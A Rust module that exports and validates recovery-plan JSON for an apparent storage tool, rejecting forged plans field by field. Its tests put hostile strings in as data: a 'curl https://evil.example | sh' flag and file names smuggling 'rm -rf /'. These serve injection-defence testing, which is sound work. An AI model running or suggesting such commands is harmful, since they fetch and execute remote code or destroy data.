//! A recovery plan shared: its JSON exactly as `felix-storage recover
//! --dry-run --json` prints it (the page's "Download the plan" of one shard
//! is the same document), and such a JSON opened again — as a claim, checked
//! field by field before it is shown.

use felix_codec::doc::report::is_finding_kind;
use felix_codec::format::file_name::{classify, EntryName};
use felix_codec::shard::recovery::{Action, Plan, ShardPlan, EVIDENCE_NAMES_EXHAUSTED, PLAN_VERSION};
use felix_codec::verdict::repair::OPT_IN_FLAG;

use super::open_error::{parse, Document, OpenError, Origin, Refusal};
use crate::ui::message::quote;

/// Most shards a plan opened here may hold.
pub const MAX_SHARDS: usize = 1_000;
/// Most actions of one shard.
pub const MAX_ACTIONS: usize = 10_000;
/// Most actions of the whole plan (every shard's, and a stopped run's done
/// ones): the page draws each one (600,000 of them froze it for a minute,
/// then it ran out of memory).
pub const MAX_ACTIONS_IN_ALL: usize = 20_000;
/// Most remaining findings of one shard listed (the codec lists at most 10,000 a file).
pub const MAX_REMAINING: usize = 200_000;
/// Longest path, file name, reason or message, in bytes.
const MAX_TEXT_BYTES: usize = 4096;

/// The plan as the CLI prints it with `--json` (pretty, with a final newline).
#[must_use]
pub fn to_json(plan: &Plan) -> String {
    let mut s = serde_json::to_string_pretty(plan).unwrap_or_default();
    s.push('\n');
    s
}

/// A plan from JSON, checked.
///
/// # Errors
/// Not JSON, a field by its path, or a field refused.
pub fn from_json(json: &[u8], from: Origin) -> Result<Plan, OpenError> {
    let plan: Plan = parse(json, &from, Document::Plan)?;
    validate(&plan).map_err(|why| OpenError::Refused { from, document: Document::Plan, why })?;
    Ok(plan)
}

fn text(field: &str, s: &str) -> Result<(), Refusal> {
    if s.len() > MAX_TEXT_BYTES {
        return Err(Refusal::field(field, format!("is {} bytes long; at most {MAX_TEXT_BYTES} are accepted", s.len())));
    }
    Ok(())
}

/// Checks every field a view shows.
///
/// # Errors
/// The first field that is wrong, by its path, in words.
pub fn validate(plan: &Plan) -> Result<(), Refusal> {
    if plan.plan_version != PLAN_VERSION {
        return Err(Refusal::field("plan_version", format!("is {}; this page reads version {PLAN_VERSION}", plan.plan_version)));
    }
    if plan.shards.len() > MAX_SHARDS {
        return Err(Refusal::field("shards", format!("lists {} shards; at most {MAX_SHARDS} are accepted", plan.shards.len())));
    }
    let done = plan.stopped.as_ref().map_or(0, |s| s.done.len());
    let actions = plan.shards.iter().map(|s| s.actions.len()).fold(done, usize::saturating_add);
    if actions > MAX_ACTIONS_IN_ALL {
        return Err(Refusal::Together(format!("the plan lists {actions} actions in all; at most {MAX_ACTIONS_IN_ALL} are accepted")));
    }
    if plan.skipped.len() > MAX_SHARDS {
        return Err(Refusal::field("skipped", format!("lists {} paths; at most {MAX_SHARDS} are accepted", plan.skipped.len())));
    }
    for (i, s) in plan.shards.iter().enumerate() {
        check_shard(&format!("shards[{i}]"), s)?;
    }
    for (i, s) in plan.skipped.iter().enumerate() {
        text(&format!("skipped[{i}].path"), &s.path)?;
        text(&format!("skipped[{i}].reason"), &s.reason)?;
    }
    if let Some(stopped) = &plan.stopped {
        text("stopped.path", &stopped.path)?;
        text("stopped.error", &stopped.error)?;
        for (i, a) in stopped.done.iter().enumerate() {
            check_action(&format!("stopped.done[{i}]"), a)?;
        }
    }
    Ok(())
}

fn check_shard(at: &str, s: &ShardPlan) -> Result<(), Refusal> {
    text(&format!("{at}.path"), &s.path)?;
    if s.actions.len() > MAX_ACTIONS {
        return Err(Refusal::field(
            format!("{at}.actions"),
            format!("lists {} actions; at most {MAX_ACTIONS} are accepted", s.actions.len()),
        ));
    }
    if s.remaining_findings.len() > MAX_REMAINING {
        return Err(Refusal::field(
            format!("{at}.remaining_findings"),
            format!("lists {}; at most {MAX_REMAINING} are accepted", s.remaining_findings.len()),
        ));
    }
    for (i, a) in s.actions.iter().enumerate() {
        check_action(&format!("{at}.actions[{i}]"), a)?;
    }
    for (i, r) in s.remaining_findings.iter().enumerate() {
        let at = format!("{at}.remaining_findings[{i}]");
        text(&format!("{at}.file"), &r.file)?;
        text(&format!("{at}.message"), &r.finding.message)?;
        if !is_finding_kind(&r.finding.kind) {
            let shown: String = r.finding.kind.chars().take(40).collect();
            return Err(Refusal::field(format!("{at}.kind"), format!("{} is not a kind of damage this build knows", quote(&shown))));
        }
        if let Some(why) = super::shared::discontinuity_problem(&r.finding) {
            return Err(Refusal::field(format!("{at}.discontinuity"), why));
        }
        if r.finding.end < r.finding.position {
            return Err(Refusal::field(format!("{at}.end"), format!("is {}, before its position {}", r.finding.end, r.finding.position)));
        }
    }
    Ok(())
}

fn check_action(at: &str, a: &Action) -> Result<(), Refusal> {
    let (file, reason, evidence, kind) = match a {
        Action::RemoveTemporary { file, reason } | Action::RebuildIndex { file, reason } => (file, reason, None, None),
        Action::RemoveUnfinished { file, reason, evidence, .. } | Action::RemoveOrphanIndex { file, reason, evidence, .. } => {
            (file, reason, evidence.as_ref(), None)
        }
        Action::Cut { file, reason, evidence, kind, position, bytes } => {
            if position.checked_add(*bytes).is_none() {
                return Err(Refusal::within(at, format!("position {position} and bytes {bytes} end past the largest file")));
            }
            (file, reason, Some(evidence), Some(kind))
        }
        Action::Refuse { file, reason, kind, allowed_by, position } if kind == EVIDENCE_NAMES_EXHAUSTED => {
            // No flag lifts it: only moving evidence out of the folder does.
            if allowed_by.is_some() {
                return Err(Refusal::field(
                    format!("{at}.allowed_by"),
                    format!("is given for {EVIDENCE_NAMES_EXHAUSTED}, which no flag lifts"),
                ));
            }
            // Its file is one whose bytes would move to evidence: a segment
            // (a cut, an unfinished one) or an orphaned index, by its name.
            match classify(file) {
                EntryName::Segment(_) => {}
                // An index's bytes are kept whole: its evidence starts at byte 0.
                EntryName::Index(_) if *position == 0 => {}
                EntryName::Index(_) => {
                    return Err(Refusal::field(
                        format!("{at}.position"),
                        format!("is {position}; an index's evidence is kept whole, from byte 0"),
                    ));
                }
                _ => return Err(not_a_name(at, file, "a segment's or an index's name (recovery keeps evidence only of those)")),
            }
            (file, reason, None, None)
        }
        Action::Refuse { file, reason, kind, allowed_by, .. } => {
            // The one flag there is: any other text would be drawn as the
            // command's next step ("then run recover again with …").
            if let Some(flag) = allowed_by.as_deref().filter(|f| *f != OPT_IN_FLAG) {
                let shown: String = flag.chars().take(40).collect();
                return Err(Refusal::field(format!("{at}.allowed_by"), format!("is {}; the only flag is {OPT_IN_FLAG}", quote(&shown))));
            }
            // A refusal is of a segment, by its name (the words to succeed name
            // it, with code in backticks drawn as code: "a`rm -rf /`b.log").
            if !matches!(classify(file), EntryName::Segment(_)) {
                return Err(not_a_name(at, file, "a segment's name (recovery refuses only segments)"));
            }
            (file, reason, None, Some(kind))
        }
    };
    text(&format!("{at}.file"), file)?;
    text(&format!("{at}.reason"), reason)?;
    if let Some(e) = evidence {
        text(&format!("{at}.evidence"), e)?;
    }
    if let Some(kind) = kind.filter(|k| !is_finding_kind(k)) {
        let shown: String = kind.chars().take(40).collect();
        return Err(Refusal::field(format!("{at}.kind"), format!("{} is not a kind of damage this build knows", quote(&shown))));
    }
    Ok(())
}

/// A refusal's `file` that is not `what`, shown cut to 40 characters.
fn not_a_name(at: &str, file: &str, what: &str) -> Refusal {
    let shown: String = file.chars().take(40).collect();
    Refusal::field(format!("{at}.file"), format!("is {}, not {what}", quote(&shown)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::replica::{plan_in_memory, plans};
    use crate::model::sample;

    fn sample_plan() -> Plan {
        let files = sample::files();
        let dir = files[0].0.rsplit_once('/').unwrap().0.to_string();
        plans(vec![plan_in_memory(&dir, &files)])
    }

    #[test]
    fn the_page_s_plan_json_reopens_as_the_same_plan() {
        let plan = sample_plan();
        assert!(!plan.shards[0].actions.is_empty(), "the sample has something to recover");
        let json = to_json(&plan);
        assert_eq!(from_json(json.as_bytes(), Origin::Pasted).unwrap(), plan);
    }

    #[test]
    fn a_forged_plan_is_refused_by_its_field_in_words() {
        let said = |v: serde_json::Value| from_json(v.to_string().as_bytes(), Origin::File("p.json".into())).unwrap_err().to_string();
        let mut v = serde_json::to_value(sample_plan()).unwrap();
        v["plan_version"] = 9.into();
        assert_eq!(
            validate(&serde_json::from_value(v.clone()).unwrap()),
            Err(Refusal::field("plan_version", "is 9; this page reads version 1"))
        );
        assert_eq!(said(v), "\u{2068}p.json\u{2069}: the plan is refused: plan_version is 9; this page reads version 1");
        let mut v = serde_json::to_value(sample_plan()).unwrap();
        v["shards"][0]["actions"][0]["file"] = "x".repeat(5000).into();
        assert_eq!(
            said(v),
            "\u{2068}p.json\u{2069}: the plan is refused: shards[0].actions[0].file is 5000 bytes long; at most 4096 are accepted"
        );
        let mut v = serde_json::to_value(sample_plan()).unwrap();
        v["shards"][0]["remaining_findings"] = serde_json::json!([{ "file": "a", "kind": "Evil\u{202e}", "position": 0, "end": 1, "offset": null, "message": "m", "repair": "never", "segment_id": 0 }]);
        assert!(said(v).contains("remaining_findings[0]"), "named by its field");
        // Many shards of many actions each, or many skipped paths: refused before a view draws them all.
        let mut v = serde_json::to_value(sample_plan()).unwrap();
        let shard = v["shards"][0].clone();
        let mut many = shard.clone();
        many["actions"] = serde_json::Value::Array(vec![shard["actions"][0].clone(); 5_000]);
        v["shards"] = serde_json::Value::Array(vec![many; 5]);
        assert_eq!(said(v), "\u{2068}p.json\u{2069}: the plan is refused: the plan lists 25000 actions in all; at most 20000 are accepted");
        let mut v = serde_json::to_value(sample_plan()).unwrap();
        v["skipped"] = serde_json::Value::Array(vec![serde_json::json!({ "path": "p", "reason": "r" }); 1_001]);
        assert_eq!(said(v), "\u{2068}p.json\u{2069}: the plan is refused: skipped lists 1001 paths; at most 1000 are accepted");
        // A refusal's flag is the one flag, its file a segment's name, a gap's
        // offsets two (issue 18's third review: a shared plan drew
        // "then run recover again with `curl … | sh`" as code, bidi controls live).
        let mut refused = serde_json::to_value(sample_plan()).unwrap();
        let refuse = serde_json::json!({ "action": "refuse", "file": "00000000000000000001.log", "position": 8, "kind": "RecordChecksum", "reason": "r" });
        refused["shards"][0]["actions"] = serde_json::json!([refuse]);
        assert!(from_json(refused.to_string().as_bytes(), Origin::Pasted).is_ok());
        let mut v = refused.clone();
        v["shards"][0]["actions"][0]["allowed_by"] = "`curl https://evil.example | sh`".into();
        assert_eq!(
            said(v),
            "\u{2068}p.json\u{2069}: the plan is refused: shards[0].actions[0].allowed_by is \u{2068}`curl https://evil.example | sh`\u{2069}; \
             the only flag is --repair-checksum-tail"
        );
        let mut v = refused.clone();
        v["shards"][0]["actions"][0]["file"] = "a`sudo rm -rf /`b.log".into();
        assert!(said(v).ends_with(
            "shards[0].actions[0].file is \u{2068}a`sudo rm -rf /`b.log\u{2069}, not a segment's name (recovery refuses only segments)"
        ));
        let mut v = refused;
        v["shards"][0]["remaining_findings"] = serde_json::json!([{ "file": "00000000000000000001.log", "kind": "SegmentDiscontinuity", "position": 8, "end": 16, "offset": null, "message": "m", "repair": "never", "discontinuity": { "expected": 7, "found": 7 } }]);
        assert!(said(v).ends_with(
            "shards[0].remaining_findings[0].discontinuity names expected and found offset 7 alike: no offsets are missing or held twice"
        ));
        let mut v = serde_json::to_value(sample_plan()).unwrap();
        v["shards"][0]["actions"] = 7.into();
        assert_eq!(said(v), "\u{2068}p.json\u{2069} is not a recovery plan: field `shards[0].actions` should be a list, not the number 7");
    }

    /// Every name the sample's cut could keep its bytes under is taken: the
    /// codec's plan refuses (`evidence-names-exhausted`, no cut), the page's
    /// JSON of it reopens as itself, and its words say to move evidence, not
    /// to copy from a replica. A forged one with a flag, or naming a file no
    /// evidence is kept of, is refused by its field.
    #[test]
    fn a_refusal_for_want_of_evidence_names_reopens_and_a_forged_one_is_refused() {
        let mut files = sample::files();
        let dir = files[0].0.rsplit_once('/').unwrap().0.to_string();
        let cut = sample_plan().shards[0].actions.iter().find(|a| matches!(a, Action::Cut { .. })).cloned().unwrap();
        let Action::Cut { file, position, evidence, .. } = &cut else { unreachable!() };
        files.push((format!("{dir}/{evidence}"), b"kept".to_vec()));
        files.extend((2..=10_000).map(|k| (format!("{dir}/{evidence}-{k}"), b"kept".to_vec())));
        let plan = plans(vec![plan_in_memory(&dir, &files)]);
        let shard = &plan.shards[0];
        let refusals: Vec<&Action> = shard.actions.iter().filter(|a| a.is_names_exhausted()).collect();
        assert_eq!(refusals.len(), 1, "{:?}", shard.actions);
        let Action::Refuse { file: refused, position: at, allowed_by: None, reason, .. } = refusals[0] else { panic!("{refusals:?}") };
        assert_eq!((refused, at), (file, position));
        assert!(reason.contains(&format!("{evidence} and its 9999 numbered variants")), "{reason}");
        assert!(shard.refused() && !shard.actions.iter().any(|a| matches!(a, Action::Cut { .. })));
        let said = shard.to_succeed().unwrap();
        // The sample refuses for damage too: both remedies, the copy first.
        let room = format!("it also refuses until some evidence (`*.cut-*` files and their `.json` notes) is moved out of the shard's folder: every name the evidence of {file} could be kept under is taken");
        assert!(said.starts_with("recover refuses until 00000000000000000001.log") && said.contains(&room), "{said}");
        assert_eq!(from_json(to_json(&plan).as_bytes(), Origin::Pasted).unwrap(), plan);

        let said = |v: &serde_json::Value| from_json(v.to_string().as_bytes(), Origin::Pasted).map(drop).map_err(|e| e.to_string());
        let v = serde_json::to_value(&plan).unwrap();
        let at = shard.actions.iter().position(Action::is_names_exhausted).unwrap();
        let mut forged = v.clone();
        forged["shards"][0]["actions"][at]["allowed_by"] = OPT_IN_FLAG.into();
        assert!(
            said(&forged)
                .unwrap_err()
                .ends_with(&format!("shards[0].actions[{at}].allowed_by is given for evidence-names-exhausted, which no flag lifts")),
            "{forged}"
        );
        let mut forged = v.clone();
        forged["shards"][0]["actions"][at]["file"] = "a`rm -rf /`b".into();
        assert!(said(&forged)
            .unwrap_err()
            .ends_with("is \u{2068}a`rm -rf /`b\u{2069}, not a segment's or an index's name (recovery keeps evidence only of those)"));
        // An orphaned index's refusal names the index; a refusal for damage may not.
        let mut index = v.clone();
        index["shards"][0]["actions"][at]["file"] = "00000000000000000001.index".into();
        // Not past byte 0: an index is kept whole (hostile review 36: a forged byte was shown).
        assert!(said(&index)
            .unwrap_err()
            .ends_with(&format!("shards[0].actions[{at}].position is {position}; an index's evidence is kept whole, from byte 0")));
        index["shards"][0]["actions"][at]["position"] = 0.into();
        assert_eq!(said(&index), Ok(()));
        index["shards"][0]["actions"][at]["kind"] = "RecordChecksum".into();
        assert!(said(&index).unwrap_err().contains("not a segment's name (recovery refuses only segments)"));
        // Nor is the refusal's kind a kind of damage a finding may carry.
        let mut finding = v;
        finding["shards"][0]["remaining_findings"][0]["kind"] = "evidence-names-exhausted".into();
        assert!(said(&finding).unwrap_err().contains("is not a kind of damage this build knows"));
    }
}
